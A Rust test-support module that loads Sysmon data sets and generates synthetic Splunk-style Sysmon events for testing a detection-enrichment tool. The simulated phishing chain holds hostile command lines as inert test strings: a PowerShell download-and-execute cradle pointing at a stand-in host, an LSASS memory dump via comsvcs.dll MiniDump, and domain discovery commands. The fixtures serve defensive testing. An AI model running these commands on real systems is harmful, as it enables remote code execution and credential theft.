//! Test data in the shape of Splunk search results.
//!
//! Two sources:
//! - the real Sysmon data sets in `../shared/data/sysmon/` (CSV with CRLF,
//!   one gzipped; values may hold bare `\r` or `\n`, so only a real CSV
//!   parser will do). They live outside this repository, so every loader
//!   returns `None` and prints why when `../shared` is missing: a checkout
//!   without them must skip those tests, not fail them;
//! - [`generated`], a small deterministic set of realistic Sysmon rows that
//!   exercises what the real sets have too little of (multivalue cells,
//!   `$` in values, non-ASCII text, commas, quotes and line breaks in
//!   command lines, every `Hashes` subset and order), so the end-to-end
//!   tests always have something to run on.

use std::borrow::Cow;
use std::fs::File;
use std::io::{BufReader, Read};
use std::path::{Path, PathBuf};

/// One cell of a search result. Splunk fields are multivalued; the CSV
/// data sets only ever hold single values, the generator and the recordings
/// also hold lists.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Value {
    /// A single value (empty = absent: splunkd cannot tell them apart).
    One(String),
    /// Two or more values.
    Many(Vec<String>),
}

impl Value {
    /// The empty value, as a constant so views can hand out references.
    pub const EMPTY: Value = Value::One(String::new());

    /// A single value.
    pub fn one(text: impl Into<String>) -> Value {
        Value::One(text.into())
    }

    /// A list, normalised the way the SDK writes it: zero values is the
    /// empty value, one value is a single value (SCPV2 §6).
    pub fn from_values(mut values: Vec<String>) -> Value {
        match values.len() {
            0 => Value::EMPTY,
            1 => Value::One(values.pop().unwrap_or_default()),
            _ => Value::Many(values),
        }
    }

    /// The plain CSV cell: the values joined by `\n`.
    pub fn joined(&self) -> Cow<'_, str> {
        match self {
            Value::One(s) => Cow::Borrowed(s),
            Value::Many(v) => Cow::Owned(v.join("\n")),
        }
    }

    /// True for the empty single value.
    pub fn is_empty(&self) -> bool {
        matches!(self, Value::One(s) if s.is_empty())
    }
}

/// A result set: column names and rows of cells in that order.
#[derive(Clone, Debug, Default)]
pub struct Table {
    /// A name for messages.
    pub name: String,
    /// Column names, in order.
    pub columns: Vec<String>,
    /// Rows; every row has one cell per column.
    pub rows: Vec<Vec<Value>>,
}

impl Table {
    /// Index of a column.
    pub fn position(&self, column: &str) -> Option<usize> {
        self.columns.iter().position(|c| c == column)
    }

    /// The cell of `row` in `column`, `None` when there is no such column.
    pub fn get(&self, row: usize, column: &str) -> Option<&Value> {
        Some(&self.rows[row][self.position(column)?])
    }

    /// Number of rows.
    pub fn len(&self) -> usize {
        self.rows.len()
    }

    /// True without rows.
    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }
}

/// The three data sets of `../shared/data/sysmon/`, smallest last so a
/// failure report on the big one does not hide the others.
pub const SYSMON_DATASETS: [&str; 3] = [
    "evtx_attack_samples.csv",
    "otrf_lsass_campaign_01.csv.gz",
    "evtx_to_mitre_attack.csv",
];

/// `../shared` next to the repository, or `None` after printing why the
/// caller is about to skip. Under `CI` (whose run has `../shared`) a
/// missing folder fails the test instead: a skip there would pass unseen.
pub fn shared_dir() -> Option<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared");
    if dir.is_dir() {
        Some(dir)
    } else {
        assert!(
            std::env::var_os("CI").is_none(),
            "../shared not found at {} and CI is set: the CI run must have it",
            dir.display()
        );
        eprintln!(
            "skipping: ../shared not found at {} (the shared data sets and protocol recordings \
             live outside this repository)",
            dir.display()
        );
        None
    }
}

/// A file under `../shared`. `None` (reason printed) when `../shared` is
/// absent; a missing file inside an existing `../shared` is a broken
/// checkout and panics, because skipping would hide it.
pub fn shared_file(relative: &str) -> Option<PathBuf> {
    let path = shared_dir()?.join(relative);
    assert!(
        path.is_file(),
        "{} is missing from ../shared",
        path.display()
    );
    Some(path)
}

/// Loads one Sysmon data set by file name (see [`SYSMON_DATASETS`]).
pub fn sysmon_dataset(file: &str) -> Option<Table> {
    let path = shared_file(&format!("data/sysmon/{file}"))?;
    Some(load_csv(&path))
}

/// Reads a CSV (or `.csv.gz`) file with a header row into a table; bytes
/// that are not UTF-8 are replaced (lossy), which the data sets do not need.
pub fn load_csv(path: &Path) -> Table {
    let file = File::open(path).unwrap_or_else(|e| panic!("open {}: {e}", path.display()));
    let reader: Box<dyn Read> = if path.extension().is_some_and(|e| e == "gz") {
        Box::new(flate2::read::MultiGzDecoder::new(BufReader::new(file)))
    } else {
        Box::new(file)
    };
    let mut csv = csv::ReaderBuilder::new()
        .has_headers(true)
        .flexible(false)
        .buffer_capacity(1 << 20)
        .from_reader(reader);
    let lossy = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
    let columns: Vec<String> = csv
        .byte_headers()
        .unwrap_or_else(|e| panic!("{}: header: {e}", path.display()))
        .iter()
        .map(lossy)
        .collect();
    let mut rows = Vec::new();
    let mut record = csv::ByteRecord::new();
    while csv
        .read_byte_record(&mut record)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
    {
        rows.push(record.iter().map(|f| Value::One(lossy(f))).collect());
    }
    Table {
        name: path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default(),
        columns,
        rows,
    }
}

/// Turns a body in splunkd's form (plain columns plus `__mv_` companions)
/// into a table of plain columns whose cells are decoded lists where the
/// companion is non-empty. Used to replay a real splunkd body (the only
/// real multivalue sample) through the stand-in.
pub fn table_from_splunk_body(name: &str, body: &[u8]) -> Table {
    let mut csv = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(false)
        .from_reader(body);
    let mut records = csv.byte_records();
    let lossy = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
    let header: Vec<String> = match records.next() {
        Some(h) => h.expect("header row").iter().map(lossy).collect(),
        None => return Table::default(),
    };
    let plain: Vec<(usize, Option<usize>)> = header
        .iter()
        .enumerate()
        .filter(|(_, n)| !n.starts_with("__mv_"))
        .map(|(i, n)| (i, header.iter().position(|m| *m == format!("__mv_{n}"))))
        .collect();
    let mut table = Table {
        name: name.to_string(),
        columns: plain.iter().map(|&(i, _)| header[i].clone()).collect(),
        rows: Vec::new(),
    };
    for record in records {
        let record = record.expect("CSV row");
        let cells: Vec<String> = record.iter().map(lossy).collect();
        table.rows.push(
            plain
                .iter()
                .map(|&(i, mv)| match mv {
                    Some(m) if !cells[m].is_empty() => {
                        Value::from_values(super::splunkd::mv_decode(&cells[m]))
                    }
                    _ => Value::One(cells[i].clone()),
                })
                .collect(),
        );
    }
    table
}

// ---------------------------------------------------------------------------
// Generator
// ---------------------------------------------------------------------------

/// Columns of the generated set, in the order the real data sets use
/// (`_time`, `_raw`, index-time fields, System fields, EventData, split
/// hashes, CIM fields), plus two multivalue fields Splunk adds at search
/// time (`eventtype`, `tag`).
const GENERATED_COLUMNS: &[&str] = &[
    "_time",
    "_raw",
    "host",
    "source",
    "sourcetype",
    "index",
    "EventCode",
    "EventID",
    "EventRecordID",
    "Computer",
    "RuleName",
    "UtcTime",
    "SourceProcessGUID",
    "SourceProcessId",
    "SourceImage",
    "TargetProcessGUID",
    "TargetProcessId",
    "TargetImage",
    "GrantedAccess",
    "ProcessGuid",
    "ProcessId",
    "Image",
    "OriginalFileName",
    "CommandLine",
    "CurrentDirectory",
    "User",
    "IntegrityLevel",
    "Hashes",
    "ParentProcessGuid",
    "ParentProcessId",
    "ParentImage",
    "ParentCommandLine",
    "TargetFilename",
    "ImageLoaded",
    "Signed",
    "Protocol",
    "SourceIp",
    "SourcePort",
    "DestinationIp",
    "DestinationHostname",
    "DestinationPort",
    "MD5",
    "SHA1",
    "SHA256",
    "IMPHASH",
    "process_guid",
    "process_id",
    "process",
    "process_name",
    "process_path",
    "process_hash",
    "parent_process_guid",
    "parent_process_id",
    "parent_process",
    "parent_process_path",
    "user",
    "dest",
    "action",
    "vendor_product",
    "signature_id",
    "eventtype",
    "tag",
];

/// xorshift64*: deterministic, dependency-free, good enough for test data.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn hex(&mut self, digits: usize) -> String {
        let mut s = String::with_capacity(digits);
        while s.len() < digits {
            s.push_str(&format!("{:016X}", self.next()));
        }
        s.truncate(digits);
        s
    }

    fn guid(&mut self) -> String {
        let h = self.hex(32);
        format!(
            "{{{}-{}-{}-{}-{}}}",
            &h[..8],
            &h[8..12],
            &h[12..16],
            &h[16..20],
            &h[20..]
        )
    }
}

const ZERO_GUID: &str = "{00000000-0000-0000-0000-000000000000}";

/// One process of a generated tree.
#[derive(Clone)]
struct Proc {
    guid: String,
    pid: u32,
    image: String,
    cmdline: String,
    user: String,
    hashes: String,
    parent_guid: String,
    parent_pid: u32,
    parent_image: String,
    parent_cmdline: String,
}

/// Fields of one event before they are laid out as a row.
struct Event {
    code: u32,
    host: &'static str,
    computer: &'static str,
    fields: Vec<(&'static str, Value)>,
}

struct Gen {
    rng: Rng,
    next_pid: u32,
    hash_style: usize,
    events: Vec<Event>,
}

/// `Hashes` as Sysmon writes it for the configured `HashAlgorithms`: every
/// subset and order seen in real data plus an unusual order and lower-case
/// hex (hashes compare case-insensitively).
fn hashes_value(rng: &mut Rng, style: usize) -> String {
    let (md5, sha1, sha256, imphash) = (rng.hex(32), rng.hex(40), rng.hex(64), rng.hex(32));
    match style % 6 {
        0 => format!("SHA1={sha1},MD5={md5},SHA256={sha256},IMPHASH={imphash}"),
        1 => format!("MD5={md5},SHA256={sha256},IMPHASH={imphash}"),
        2 => format!("MD5={md5},IMPHASH={imphash}"),
        3 => format!("SHA1={sha1}"),
        4 => format!("SHA256={sha256}"),
        _ => format!(
            "SHA256={},IMPHASH={},MD5={},SHA1={}",
            sha256.to_lowercase(),
            imphash.to_lowercase(),
            md5.to_lowercase(),
            sha1.to_lowercase()
        ),
    }
}

/// The add-on's `MD5\=(…)` etc. extractions, applied to `Hashes`.
fn split_hashes(hashes: &str) -> [(&'static str, String); 4] {
    let find = |key: &str| {
        hashes
            .split(',')
            .find_map(|p| p.strip_prefix(key).and_then(|r| r.strip_prefix('=')))
            .unwrap_or("")
            .to_string()
    };
    [
        ("MD5", find("MD5")),
        ("SHA1", find("SHA1")),
        ("SHA256", find("SHA256")),
        ("IMPHASH", find("IMPHASH")),
    ]
}

fn basename(path: &str) -> &str {
    path.rsplit('\\').next().unwrap_or(path)
}

fn one(s: &str) -> Value {
    Value::one(s)
}

fn many(values: &[&str]) -> Value {
    Value::from_values(values.iter().map(|s| s.to_string()).collect())
}

impl Gen {
    fn pid(&mut self) -> u32 {
        self.next_pid += 4 + (self.rng.next() % 400) as u32;
        self.next_pid
    }

    /// An EventCode 1 for a new process; `parent` of `None` means the
    /// parent is outside the data (a random GUID) unless `zero_parent`.
    fn spawn(
        &mut self,
        host: (&'static str, &'static str),
        parent: Option<&Proc>,
        image: &str,
        cmdline: &str,
        user: &str,
    ) -> Proc {
        let guid = self.rng.guid();
        let pid = self.pid();
        self.hash_style += 1;
        let hashes = hashes_value(&mut self.rng, self.hash_style);
        let (parent_guid, parent_pid, parent_image, parent_cmdline) = match parent {
            Some(p) => (p.guid.clone(), p.pid, p.image.clone(), p.cmdline.clone()),
            None if image.ends_with("smss.exe") => {
                (ZERO_GUID.to_string(), 4, "?".into(), "".into())
            }
            None => (
                self.rng.guid(),
                self.pid(),
                r"C:\Windows\System32\winlogon.exe".into(),
                "winlogon.exe".into(),
            ),
        };
        let proc = Proc {
            guid,
            pid,
            image: image.into(),
            cmdline: cmdline.into(),
            user: user.into(),
            hashes,
            parent_guid,
            parent_pid,
            parent_image,
            parent_cmdline,
        };
        let p = &proc;
        let user_short = p.user.rsplit('\\').next().unwrap_or(&p.user).to_string();
        let mut fields = vec![
            (
                "RuleName",
                one("technique_id=T1059,technique_name=Command-Line Interface"),
            ),
            ("ProcessGuid", one(&p.guid)),
            ("ProcessId", one(&p.pid.to_string())),
            ("Image", one(&p.image)),
            ("OriginalFileName", one(&basename(&p.image).to_uppercase())),
            ("CommandLine", one(&p.cmdline)),
            ("CurrentDirectory", one(r"C:\Windows\system32\")),
            ("User", one(&p.user)),
            (
                "IntegrityLevel",
                one(if p.user.contains("SYSTEM") {
                    "System"
                } else {
                    "Medium"
                }),
            ),
            ("Hashes", one(&p.hashes)),
            ("ParentProcessGuid", one(&p.parent_guid)),
            ("ParentProcessId", one(&p.parent_pid.to_string())),
            ("ParentImage", one(&p.parent_image)),
            ("ParentCommandLine", one(&p.parent_cmdline)),
            ("process_guid", one(&p.guid)),
            ("process_id", one(&p.pid.to_string())),
            ("process", one(&p.cmdline)),
            ("process_name", one(basename(&p.image))),
            ("process_path", one(&p.image)),
            ("process_hash", one(&p.hashes)),
            ("parent_process_guid", one(&p.parent_guid)),
            ("parent_process_id", one(&p.parent_pid.to_string())),
            ("parent_process", one(&p.parent_cmdline)),
            ("parent_process_path", one(&p.parent_image)),
            ("user", one(&user_short)),
            ("dest", one(host.1)),
            ("action", one("allowed")),
            ("eventtype", many(&["ms-sysmon-process", "sysmon$events"])),
            ("tag", many(&["process", "report"])),
        ];
        for (k, v) in split_hashes(&p.hashes) {
            fields.push((k, Value::One(v)));
        }
        self.events.push(Event {
            code: 1,
            host: host.0,
            computer: host.1,
            fields,
        });
        proc
    }

    fn network(&mut self, host: (&'static str, &'static str), p: &Proc, ip: &str, name: &str) {
        let port = (49_152 + self.rng.next() % 16_000).to_string();
        self.events.push(Event {
            code: 3,
            host: host.0,
            computer: host.1,
            fields: vec![
                ("ProcessGuid", one(&p.guid)),
                ("ProcessId", one(&p.pid.to_string())),
                ("Image", one(&p.image)),
                ("User", one(&p.user)),
                ("Protocol", one("tcp")),
                ("SourceIp", one("10.0.12.34")),
                ("SourcePort", one(&port)),
                ("DestinationIp", one(ip)),
                ("DestinationHostname", one(name)),
                ("DestinationPort", one("443")),
                ("process_guid", one(&p.guid)),
                ("process_id", one(&p.pid.to_string())),
                ("process_name", one(basename(&p.image))),
                ("process_path", one(&p.image)),
                // Several hosts in one field: a multivalue input column.
                ("dest", many(&[name, ip])),
                ("action", one("allowed")),
                ("eventtype", one("ms-sysmon-network")),
                ("tag", many(&["network", "communicate"])),
            ],
        });
    }

    fn image_load(&mut self, host: (&'static str, &'static str), p: &Proc, dll: &str) {
        self.hash_style += 1;
        let hashes = hashes_value(&mut self.rng, self.hash_style);
        let mut fields = vec![
            ("ProcessGuid", one(&p.guid)),
            ("ProcessId", one(&p.pid.to_string())),
            ("Image", one(&p.image)),
            ("ImageLoaded", one(dll)),
            ("OriginalFileName", one(&basename(dll).to_uppercase())),
            ("Hashes", one(&hashes)),
            ("Signed", one("true")),
            ("User", one(&p.user)),
            ("process_guid", one(&p.guid)),
            ("process_id", one(&p.pid.to_string())),
            ("process_name", one(basename(&p.image))),
            ("process_path", one(dll)),
            ("process_hash", one(&hashes)),
            ("dest", one(host.1)),
            ("action", one("success")),
            ("eventtype", one("ms-sysmon-process")),
            ("tag", many(&["process", "report"])),
        ];
        for (k, v) in split_hashes(&hashes) {
            fields.push((k, Value::One(v)));
        }
        self.events.push(Event {
            code: 7,
            host: host.0,
            computer: host.1,
            fields,
        });
    }

    /// EventCode 10: `Source…` is the accessing process, `Target…` the
    /// accessed one; the 5.0.0 add-on maps CIM `parent_process_*` to the
    /// source, a trap for naive lineage.
    fn process_access(
        &mut self,
        host: (&'static str, &'static str),
        src: &Proc,
        target_image: &str,
    ) {
        let target_guid = self.rng.guid();
        let target_pid = self.pid().to_string();
        self.events.push(Event {
            code: 10,
            host: host.0,
            computer: host.1,
            fields: vec![
                ("SourceProcessGUID", one(&src.guid)),
                ("SourceProcessId", one(&src.pid.to_string())),
                ("SourceImage", one(&src.image)),
                ("TargetProcessGUID", one(&target_guid)),
                ("TargetProcessId", one(&target_pid)),
                ("TargetImage", one(target_image)),
                ("GrantedAccess", one("0x1010")),
                ("process_guid", one(&target_guid)),
                ("process_id", one(&target_pid)),
                ("process_name", one(basename(target_image))),
                ("process_path", one(target_image)),
                ("parent_process_guid", one(&src.guid)),
                ("parent_process_id", one(&src.pid.to_string())),
                ("parent_process_path", one(&src.image)),
                ("dest", one(host.1)),
                ("action", one("allowed")),
                ("eventtype", one("ms-sysmon-process")),
                ("tag", many(&["process", "report"])),
            ],
        });
    }

    fn file_create(&mut self, host: (&'static str, &'static str), p: &Proc, path: &str) {
        self.events.push(Event {
            code: 11,
            host: host.0,
            computer: host.1,
            fields: vec![
                ("ProcessGuid", one(&p.guid)),
                ("ProcessId", one(&p.pid.to_string())),
                ("Image", one(&p.image)),
                ("TargetFilename", one(path)),
                ("User", one(&p.user)),
                ("process_guid", one(&p.guid)),
                ("process_id", one(&p.pid.to_string())),
                ("process_name", one(basename(&p.image))),
                ("process_path", one(&p.image)),
                ("dest", one(host.1)),
                ("action", one("created")),
                ("eventtype", one("ms-sysmon-filemod")),
                ("tag", one("endpoint")),
            ],
        });
    }
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// A deterministic, realistic Sysmon result set (about 150 rows): a phishing
/// tree on a workstation (Office → cmd → dropped non-ASCII binary →
/// PowerShell → discovery and an LSASS dump), a boot chain on a server that
/// starts at a process with the all-zero parent GUID, and an orphan whose
/// parent is not in the data; with EventCodes 1, 3, 7, 10 and 11, newest
/// first like a Splunk search (children before their parents).
pub fn generated() -> Table {
    let mut g = Gen {
        rng: Rng(0x0000_5EED_0F5A_5E00_u64),
        next_pid: 1000,
        hash_style: 0,
        events: Vec::new(),
    };
    let wks = ("WKS-017", "wks-017.corp.example");
    let srv = ("SRV-DC01", "srv-dc01.corp.example");
    let user = r"CORP\jürgen.müller";
    let system = r"NT AUTHORITY\SYSTEM";

    for round in 0..4 {
        // Workstation: a phishing chain, three rounds with fresh GUIDs.
        let userinit = g.spawn(
            wks,
            None,
            r"C:\Windows\System32\userinit.exe",
            "userinit.exe",
            user,
        );
        let explorer = g.spawn(
            wks,
            Some(&userinit),
            r"C:\Windows\explorer.exe",
            r"C:\Windows\Explorer.EXE",
            user,
        );
        let outlook = g.spawn(
            wks,
            Some(&explorer),
            r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#,
            user,
        );
        let cmd = g.spawn(
            wks,
            Some(&outlook),
            r"C:\Windows\System32\cmd.exe",
            r#"cmd.exe /c "C:\Users\jürgen.müller\AppData\Local\Temp\Überweisung_€.pdf.exe" & exit"#,
            user,
        );
        let dropped = g.spawn(
            wks,
            Some(&cmd),
            r"C:\Users\jürgen.müller\AppData\Local\Temp\Überweisung_€.pdf.exe",
            r#""C:\Users\jürgen.müller\AppData\Local\Temp\Überweisung_€.pdf.exe" --silent, --no-ui"#,
            user,
        );
        g.file_create(
            wks,
            &dropped,
            r"C:\Users\jürgen.müller\AppData\Roaming\報告書\отчёт.lnk",
        );
        let ps = g.spawn(
            wks,
            Some(&dropped),
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell.exe -nop -w hidden -c \"$u='https://cdn.example.net/a,b';\r\n\
             IEX (New-Object Net.WebClient).DownloadString($u); Write-Host \"\"done\"\"\"\n# 終わり",
            user,
        );
        g.network(wks, &ps, "203.0.113.7", "cdn.example.net");
        g.image_load(wks, &ps, r"C:\Windows\System32\amsi.dll");
        g.spawn(
            wks,
            Some(&ps),
            r"C:\Windows\System32\whoami.exe",
            "whoami.exe /all",
            user,
        );
        g.spawn(
            wks,
            Some(&ps),
            r"C:\Windows\System32\net.exe",
            r#"net.exe group "Domain Admins" /domain"#,
            user,
        );
        let rundll = g.spawn(
            wks,
            Some(&ps),
            r"C:\Windows\System32\rundll32.exe",
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass_<1>.dmp full",
            user,
        );
        g.image_load(wks, &rundll, r"C:\Windows\System32\comsvcs.dll");
        g.process_access(wks, &rundll, r"C:\Windows\System32\lsass.exe");
        g.file_create(wks, &rundll, r"C:\Temp\lsass_<1>.dmp");

        // Server: a boot chain from the all-zero parent down to ping.
        let smss = g.spawn(
            srv,
            None,
            r"C:\Windows\System32\smss.exe",
            r"\SystemRoot\System32\smss.exe",
            system,
        );
        let smss2 = g.spawn(
            srv,
            Some(&smss),
            r"C:\Windows\System32\smss.exe",
            r"\SystemRoot\System32\smss.exe 000000d4 00000080",
            system,
        );
        let wininit = g.spawn(
            srv,
            Some(&smss2),
            r"C:\Windows\System32\wininit.exe",
            "wininit.exe",
            system,
        );
        let services = g.spawn(
            srv,
            Some(&wininit),
            r"C:\Windows\System32\services.exe",
            r"C:\Windows\system32\services.exe",
            system,
        );
        let svchost = g.spawn(
            srv,
            Some(&services),
            r"C:\Windows\System32\svchost.exe",
            r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
            system,
        );
        let wmi = g.spawn(
            srv,
            Some(&svchost),
            r"C:\Windows\System32\wbem\WmiPrvSE.exe",
            r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
            system,
        );
        let cmd2 = g.spawn(
            srv,
            Some(&wmi),
            r"C:\Windows\System32\cmd.exe",
            r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1700000000.42 2>&1",
            system,
        );
        for i in 0..(2 + round) {
            let ping = g.spawn(
                srv,
                Some(&cmd2),
                r"C:\Windows\System32\PING.EXE",
                &format!("ping -n {} 10.0.0.{}", i + 1, 10 + i),
                system,
            );
            if i == 0 {
                g.network(srv, &ping, "10.0.0.10", "fs01.corp.example");
            }
        }

        // An orphan: its parent's creation is not in the data.
        let tool = g.spawn(
            srv,
            None,
            r"C:\Program Files\Example, Inc\Tool 2.0\tool.exe",
            r#""C:\Program Files\Example, Inc\Tool 2.0\tool.exe" --config "a,b;c" --price 5$"#,
            r"CORP\svc_backup",
        );
        g.spawn(
            srv,
            Some(&tool),
            r"C:\Windows\System32\conhost.exe",
            r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
            r"CORP\svc_backup",
        );
        g.file_create(srv, &tool, r"D:\Backups\2023\Q4 report, final.xlsx");
    }

    let mut table = Table {
        name: "generated".into(),
        columns: GENERATED_COLUMNS.iter().map(|s| s.to_string()).collect(),
        rows: Vec::new(),
    };
    let position = |name: &str| {
        GENERATED_COLUMNS
            .iter()
            .position(|c| *c == name)
            .unwrap_or_else(|| panic!("generator uses unknown column {name}"))
    };
    let base_time = 1_700_000_000_000u64; // ms
    let n = g.events.len();
    for (i, ev) in g.events.iter().enumerate() {
        let ms = base_time + i as u64 * 137;
        let utc = format_utc(ms);
        let record_id = (5000 + i).to_string();
        let mut row = vec![Value::EMPTY; GENERATED_COLUMNS.len()];
        let mut set = |name: &str, v: Value| row[position(name)] = v;
        set(
            "_time",
            Value::One(format!("{}.{:03}", ms / 1000, ms % 1000)),
        );
        set("host", one(ev.host));
        set(
            "source",
            one("XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"),
        );
        set("sourcetype", one("XmlWinEventLog"));
        set("index", one("main"));
        set("EventCode", one(&ev.code.to_string()));
        set("EventID", one(&ev.code.to_string()));
        set("EventRecordID", one(&record_id));
        set("Computer", one(ev.computer));
        set("UtcTime", one(&utc));
        set("vendor_product", one("Microsoft Sysmon"));
        set("signature_id", one(&ev.code.to_string()));
        for (k, v) in &ev.fields {
            set(k, v.clone());
        }
        // `_raw` as EvtRender writes it (single line apart from values that
        // hold line breaks; only & < > escaped).
        let mut raw = format!(
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>\
             <Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385F-C22A-43E0-BF4C-06F5698FFBD9}}'/>\
             <EventID>{}</EventID><Version>5</Version><Level>4</Level><Task>{}</Task><Opcode>0</Opcode>\
             <Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{}'/>\
             <EventRecordID>{}</EventRecordID><Correlation/><Execution ProcessID='2796' ThreadID='3592'/>\
             <Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{}</Computer>\
             <Security UserID='S-1-5-18'/></System><EventData>",
            ev.code,
            ev.code,
            utc.replace(' ', "T") + "000000Z",
            record_id,
            ev.computer
        );
        raw.push_str(&format!("<Data Name='UtcTime'>{utc}</Data>"));
        for (k, v) in &ev.fields {
            let is_event_data = k.chars().next().is_some_and(|c| c.is_ascii_uppercase())
                && !matches!(*k, "MD5" | "SHA1" | "SHA256" | "IMPHASH");
            if is_event_data {
                raw.push_str(&format!(
                    "<Data Name='{k}'>{}</Data>",
                    xml_escape(&v.joined())
                ));
            }
        }
        raw.push_str("</EventData></Event>");
        set("_raw", Value::One(raw));
        table.rows.push(row);
    }
    // Newest first, as a search returns them.
    table.rows.reverse();
    assert_eq!(table.rows.len(), n);
    table
}

/// `YYYY-MM-DD hh:mm:ss.mmm` (UTC) for epoch milliseconds.
fn format_utc(ms: u64) -> String {
    let date_time = sysmonenrich::calendar::utc_date_time((ms / 1000) as i64, ' ');
    format!("{date_time}.{:03}", ms % 1000)
}

/// `../shared/sigma`, or `None` (skip) when absent; absent under `CI` fails.
pub fn sigma_dir() -> Option<PathBuf> {
    let dir = shared_dir().map(|d| d.join("sigma")).filter(|d| d.is_dir());
    if dir.is_none() {
        assert!(
            std::env::var_os("CI").is_none(),
            "../shared/sigma is required under CI"
        );
        eprintln!("skipping: ../shared/sigma not found");
    }
    dir
}
